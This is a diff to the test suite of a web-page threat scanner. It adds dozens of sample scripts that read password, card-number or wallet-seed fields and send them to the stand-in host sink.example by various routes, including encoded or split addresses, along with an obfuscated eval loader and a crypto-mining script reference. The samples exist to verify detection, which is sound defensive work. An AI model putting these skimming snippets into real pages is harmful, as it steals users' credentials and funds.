@@ -13,7 +13,7 @@ import { type Indicator, LAYERS, type LayerVerdict } from '../src/scanners/page/
 import { readPage } from '../src/scanners/page/parse.ts';
 import { COMPLETE, SCRIPT_RULES_SOURCE } from '../src/scanners/page/script-rules.ts';
 import { judgeScripts } from '../src/scanners/page/scripts.ts';
-import { judge, type Verdicts } from '../src/scanners/page/verdict.ts';
+import { judge as judgement, type Verdicts } from '../src/scanners/page/verdict.ts';
 import { scanWithYara } from '../src/scanners/page/yara.ts';
 import { type Manner, scannerContract } from './contracts/scanner.ts';
 import { hostile as hostileSite } from './support/hostile-site.ts';
@@ -50,6 +50,7 @@ const verdictOn = async (judged: Page, options: Record<string, unknown> = {}) =>
   expect(found.assessments).toHaveLength(1);
   return { ...found, assessment: found.assessments[0] as (typeof found.assessments)[0] };
 };
+const judge = (given: Verdicts) => judgement(given).assessment;
 const base64 = (text: string) => Buffer.from(text).toString('base64');
 
 describe('the address', () => {
@@ -433,6 +434,178 @@ describe('a script that repeats what the rules look for', () => {
   });
 });
 
+describe('the flow of data', () => {
+  const seed = '<textarea id="seed" placeholder="recovery phrase"></textarea>';
+  const login = '<form id="f"><input name="email"><input type="password" id="pw"></form>';
+  const flowOf = async (html: string) => {
+    const read = page(html);
+    return judgeScripts(readPage(read), read);
+  };
+  const bytes = Buffer.from(Array.from({ length: 900 }, (_, at) => (at * 7919 + ((at * at) % 251)) % 256));
+
+  test.each([
+    ['a variable', 'const a=pw.value;fetch("https://sink.example/",{method:"POST",body:a})'],
+    [
+      'a template',
+      `fetch(\`https://sink.example/?p=$\{encodeURIComponent(document.querySelector("#pw").value)}\`)`,
+    ],
+    ['an object and JSON', 'const o={p:pw.value};fetch("https://sink.example/",{body:JSON.stringify(o)})'],
+    ['FormData', 'const d=new FormData(f);navigator.sendBeacon("https://sink.example/",d)'],
+    [
+      'parameters',
+      'function a(v){b({v})}function b(d){fetch("https://sink.example/",{body:JSON.stringify(d)})}a(pw.value)',
+    ],
+    [
+      'a result',
+      'function get(){return document.getElementById("pw").value}fetch("https://sink.example/?"+get())',
+    ],
+    [
+      'XMLHttpRequest',
+      'var x=new XMLHttpRequest;x.open("POST","https://sink.example/");x.send("p="+pw.value)',
+    ],
+    ['a socket', 'const w=new WebSocket("wss://sink.example/");f.onsubmit=()=>w.send(pw.value)'],
+    ['a picture', 'const i=new Image;i.src="https://sink.example/?"+btoa(pw.value)'],
+    ['an event', 'f.addEventListener("change",e=>fetch("https://sink.example/?"+e.target.value))'],
+    [
+      'a callback',
+      '[...document.querySelectorAll("input")].map(i=>i.value).forEach(v=>fetch("https://sink.example/?"+v))',
+    ],
+    ['an encoded address', `fetch(atob("${base64('https://sink.example/')}"),{body:pw.value})`],
+    ['an address in pieces', 'var h=["https:/","sink.example","x"].join("/");fetch(h,{body:pw.value})'],
+    ['two scripts', 'window.take=()=>pw.value</script><script>fetch("https://sink.example/?"+take())'],
+  ])('from a password to another site is followed through %s', async (_how, code) => {
+    expect(texts(await flowOf(`${login}<script>${code}</script>`))).toContain(
+      'reads passwords and sends them to sink.example',
+    );
+  });
+
+  test.each([
+    ['to the own site', 'fetch("/login",{body:pw.value});fetch("https://stats.example/?page=1")'],
+    ['that is only looked at', 'if(pw.value.length<12)fetch("https://stats.example/?short=1")'],
+    ['of another field', 'fetch("https://search.example/?q="+document.querySelector("[name=email]").value)'],
+    [
+      'beside a word',
+      'var pass=1,seed=2,recovery=3;document.querySelector("h1").value;fetch("https://stats.example/",{body:pass+seed})',
+    ],
+    [
+      'whose answer is reported',
+      'fetch("/login",{body:pw.value}).then(r=>fetch("https://stats.example/?s="+r.status))',
+    ],
+  ])('%s says nothing', async (_what, code) => {
+    expect((await flowOf(`${login}<script>${code}</script>`)).indicators).toEqual([]);
+  });
+
+  test('names what is read and where it goes', async () => {
+    const { indicators } = await flowOf(
+      `${seed}<script>fetch("https://sink.example/",{body:document.all.seed.value||document.getElementById("seed").value})</script>`,
+    );
+    expect(indicators).toContainEqual({
+      points: 72,
+      text: 'A script reads the secret words of a wallet and sends them to sink.example.',
+      threat: 'phishing',
+    });
+  });
+
+  test('is told from what is typed into fields that a script writes', async () => {
+    const code =
+      'b.innerHTML=\'<input id="n" autocomplete="cc-number">\';navigator.sendBeacon("https://sink.example/",document.getElementById("n").value)';
+    expect(texts(await flowOf(`<div id="b"></div><script>${code}</script>`))).toContain('reads card data');
+  });
+
+  test('into code that cannot be read makes a page SUSPICIOUS', async () => {
+    const code = `var k="${bytes.toString('base64')}",r="";for(var i=0,b=atob(k);i<b.length;i++)r+=String.fromCharCode(b.charCodeAt(i)^name.length*i&255);new Function(r)()`;
+    const { assessment } = await verdictOn(page(`<p>Roses</p><script>${code}</script>`));
+    expect(assessment).toMatchObject({ threatLevel: 'SUSPICIOUS' });
+  });
+
+  test('of a picture in base64 says nothing', async () => {
+    const code = `document.querySelector("img").src="data:image/png;base64,${bytes.toString('base64')}";var table="${bytes.toString('base64')}";draw(atob(table))`;
+    expect((await flowOf(`<img><script>${code}</script>`)).indicators).toEqual([]);
+  });
+});
+
+describe('escapes of punctuation in HTML that a script writes', () => {
+  const written = (html: string) =>
+    scriptsOf(
+      `document.write(unescape("${html.replace(/[<>" ]/g, (one) => `%${one.charCodeAt(0).toString(16)}`)}"))`,
+    );
+
+  test('are judged as if they were written plainly', async () => {
+    expect((await written('<script src="https://tags.example/a.js"></script>')).indicators).toEqual([]);
+    expect(
+      texts(await written('<script src="https://coinhive.com/lib/coinhive.min.js"></script>')),
+    ).toContain('for mining');
+    expect(texts(await written('<script src="http://198.51.100.7/a.js"></script>'))).toContain(
+      'bare address',
+    );
+  });
+});
+
+describe('what cannot be read', () => {
+  const noise = (length: number, from = 33, to = 126) =>
+    Array.from({ length }, (_, at) =>
+      String.fromCharCode(from + ((at * 7919 + ((at * at) % 251)) % (to - from))),
+    ).join('');
+
+  test.each([
+    ['a script of noise', `<p>Roses</p><script>${noise(900).replaceAll('<', '(')}</script>`],
+    [
+      'a script cut off in the middle',
+      `<p>Roses</p><script>${'function a(b){return b+1}'.repeat(30)}function(</script>`,
+    ],
+    ['a long script of noise', `<p>Roses</p><script>${noise(60_000).replaceAll('<', '(')}</script>`],
+    ['bytes', `<p>${'\ufffd\u0003\ufffdk\ufffd'.repeat(200)}</p>`],
+    ['noise without tags', noise(3000).replaceAll('<', '(')],
+    ['a text in base64', `<p>${Buffer.from(noise(900)).toString('base64')}</p>`],
+  ])('is not BENIGN: %s', async (_what, html) => {
+    const { assessment, warnings } = await verdictOn(page(html));
+    expect(assessment.threatLevel).toBe('UNKNOWN');
+    expect(warnings).toContainEqual({
+      code: 'CONTENT_UNREADABLE',
+      message: expect.stringMatching(/\w/),
+      count: 1,
+    });
+  });
+
+  test.each([
+    ['other letters', `<p>${'漢字を使う文章です。'.repeat(60)}</p>`],
+    ['a little base64 in a long text', `<p>${'Roses like sun. '.repeat(60)}${base64('x'.repeat(120))}</p>`],
+    ['a handler that returns', '<p>Roses</p><form onsubmit="return check(this)"><input name=q></form>'],
+    [
+      'a module',
+      '<p>Roses</p><script type="module">import a from "./a.js";export default await a()</script>',
+    ],
+  ])('is told from %s', async (_what, html) => {
+    const { assessment, warnings } = await verdictOn(page(html));
+    expect({ level: assessment.threatLevel, warnings }).toEqual({ level: 'BENIGN', warnings: [] });
+  });
+
+  test('is reported when it is a small part of the page, whose verdict stands', async () => {
+    const { assessment, warnings } = await verdictOn(
+      page(`<p>Roses</p><script>${'render(1);'.repeat(300)}</script><script>broken(</script>`),
+    );
+    expect(assessment.threatLevel).toBe('BENIGN');
+    expect(warnings).toMatchObject([{ code: 'CONTENT_UNREADABLE', count: 1 }]);
+  });
+});
+
+describe('a bound that is reached', () => {
+  const icons = '<link rel="icon" href="/i.png">';
+  const packed = `eval(function(p,a,c,k,e,d){return p}('0(1)',2,2,'f|1'.split('|'),0,{}));`;
+
+  test.each([
+    ['icons', icons.repeat(230), 'LIMIT_REACHED', 30, 'BENIGN'],
+    ['links', '<a href="/a">a</a>'.repeat(10_007), 'LIMIT_REACHED', 7, 'BENIGN'],
+    ['characters of text', `<p>${'Roses. '.repeat(30_000)}</p>`, 'TRUNCATED', 1, 'BENIGN'],
+    ['frames', '<iframe src="/a"></iframe>'.repeat(503), 'LIMIT_REACHED', 3, 'UNKNOWN'],
+    ['packed scripts', `<script>${packed.repeat(53)}</script>`, 'LIMIT_REACHED', 3, 'UNKNOWN'],
+  ])('on %s is reported with its count', async (what, html, code, count, level) => {
+    const { assessment, warnings } = await verdictOn(page(`<p>Roses</p>${html}`));
+    expect(warnings).toContainEqual({ code, message: expect.stringContaining(what), count });
+    expect(assessment.threatLevel).toBe(level);
+  });
+});
+
 describe('the document', () => {
   const login = (action: string, more = '') =>
     `<title>Members</title>${more}<form action="${action}"><input name="user"><input type="password" name="p"></form>`;
@@ -702,7 +875,7 @@ describe('the scanner', () => {
     // What an error page says is not what the page said.
     expect(await at('/gone')).toMatchObject({ threatLevel: 'UNKNOWN' });
     await site.close();
-    expect(await at('/')).toMatchObject({ threatLevel: 'UNKNOWN' });
+    await expect(at('/')).rejects.toThrow(/cannot fetch .*ECONNREFUSED/);
   });
 
   test('does not wait for the host of a posted page to judge what it has', async () => {
@@ -719,9 +892,13 @@ describe('the scanner', () => {
 
   test('gives up on a page that takes too long, warns, and does not call it BENIGN', async () => {
     const slow = page(`<p>x</p>${hostile.flood()}`);
-    const { assessment, logs } = await verdictOn(slow, { timeoutSeconds: 0.1 });
+    const { assessment, warnings } = await verdictOn(slow, { timeoutSeconds: 0.1 });
     expect(assessment.threatLevel).not.toBe('BENIGN');
-    expect(logs).toContainEqual({ level: 'WARN', message: expect.stringContaining('longer than 0.1 s') });
+    expect(warnings).toContainEqual({
+      code: 'TIMED_OUT',
+      message: expect.stringContaining('longer than 0.1 s'),
+      count: 1,
+    });
     // The threads that were ended are replaced.
     expect((await verdictOn(page('<p>Roses</p>'))).assessment.threatLevel).toBe('BENIGN');
   });
@@ -784,13 +961,13 @@ describe('a hostile page', () => {
       const html = source.startsWith('<') ? source : `<script>${source}</script>`;
       const judged = page(html.slice(0, 2_000_000));
       const start = performance.now();
-      const { assessment, logs } = await verdictOn(judged, { timeoutSeconds: 5 });
+      const { assessment, warnings } = await verdictOn(judged, { timeoutSeconds: 5 });
       expect(performance.now() - start).toBeLessThan(15_000);
       const unread = assessment.layers?.some(
         ({ name, score }) => /scripts|document/.test(name) && score === null,
       );
       if (unread) expect(assessment.threatLevel).not.toBe('BENIGN');
-      if (logs.length > 0) expect(assessment.threatLevel).not.toBe('BENIGN');
+      if (unread) expect(warnings).not.toEqual([]);
     },
     30_000,
   );
